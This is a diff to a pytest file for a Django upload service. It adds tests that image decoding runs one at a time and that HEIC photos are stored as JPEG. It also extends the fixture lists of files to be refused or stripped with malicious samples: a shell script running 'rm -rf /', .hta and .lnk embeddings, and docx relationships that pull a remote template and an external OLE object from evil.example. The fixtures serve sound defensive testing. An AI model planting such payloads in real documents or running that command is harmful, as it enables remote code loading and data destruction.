@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import io
 import struct
+import threading
+import time
 import zipfile
 import zlib
 
@@ -15,7 +17,7 @@ from django.urls import reverse
 from PIL import Image
 
 from wugong.common.errors import Denied, Invalid, Refusal, Unseen
-from wugong.files import rules, storage, uploads
+from wugong.files import pictures, rules, storage, uploads
 from wugong.files.intake import take_in
 from wugong.files.models import Attachment, Content
 from wugong.files.tests.conftest import docx, picture
@@ -158,9 +160,51 @@ def png_that_says(width, height):
     return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
 
 
-@pytest.mark.parametrize("size", [(9000, 9000), (60_000, 60_000)])
+@pytest.mark.parametrize("size", [(6000, 6000), (9000, 9000), (60_000, 60_000)])
 def test_a_picture_that_would_fill_the_memory_is_not_unpacked(send, size):
     refused(send, png_that_says(*size), "图.png", "file.bomb")
+
+
+def test_pictures_are_drawn_one_at_a_time(send, monkeypatch):
+    at_once, most, guard = 0, 0, threading.Lock()
+    plain = pictures._unpacked
+
+    def counted(*args, **kwargs):
+        nonlocal at_once, most
+        with guard:
+            at_once += 1
+            most = max(most, at_once)
+        time.sleep(0.05)
+        with guard:
+            at_once -= 1
+        return plain(*args, **kwargs)
+
+    monkeypatch.setattr(pictures, "_unpacked", counted)
+    monkeypatch.setattr(pictures, "WAITING", threading.BoundedSemaphore(4))
+    said = []
+
+    def draw():
+        with storage.draft() as sent, storage.draft() as kept, storage.draft() as small:
+            sent.write_bytes(picture("PNG"))
+            try:
+                said.append(pictures.redraw(sent, kept, preview=small, name="图.png").width)
+            except Refusal as busy:
+                said.append(busy.rule)
+
+    threads = [threading.Thread(target=draw) for _n in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert most == 1
+    assert said.count(64) >= 4
+    assert said.count(64) + said.count("file.busy") == 8
+
+
+def test_a_picture_of_a_phone_in_heic_is_kept_as_jpeg(send):
+    kept = send(picture("HEIF"), "照片.heic")
+    assert (kept.content.mime, kept.name) == ("image/jpeg", "照片.jpg")
+    assert Image.open(storage.place_of(kept.content_id)).format == "JPEG"
 
 
 def test_a_picture_that_breaks_off_is_damage(send):
@@ -186,7 +230,7 @@ def test_an_svg_is_refused_whatever_it_is_called(send, name, before):
         (b"MZ\x90\x00\x03" + b"\0" * 200, "安装.exe"),
         (b"#!/bin/sh\nrm -rf /\n", "a.sh"),
         (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "旧.doc"),
-        (b"\0\0\0\x18ftypheic\0\0\0\0heicmif1", "照片.heic"),
+        (b"\0\0\0\x18ftypavif\0\0\0\0avifmif1", "照片.avif"),
         (b"text\0with\x01signs", "a.txt"),
     ],
 )
@@ -238,6 +282,13 @@ def test_what_is_hidden_in_a_picture_stays_behind(send):
         ("word__vbaProject_dot_bin", b"\xd0\xcf\x11\xe0"),
         ("word__activeX__activeX1_dot_xml", b"<a/>"),
         ("word__embeddings__start_dot_exe", b"MZ"),
+        ("word__embeddings__start_dot_hta", b"<hta:application>"),
+        ("word__embeddings__start_dot_lnk", b"L\0\0\0"),
+        (
+            "word___rels__remote_dot_xml_dot_rels",
+            b"<Relationships><Relationship TargetMode='External' Target='http://evil.example/a' Id='r1' "
+            b"Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject'/></Relationships>",
+        ),
         (
             "word___rels__settings_dot_xml_dot_rels",
             b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>',
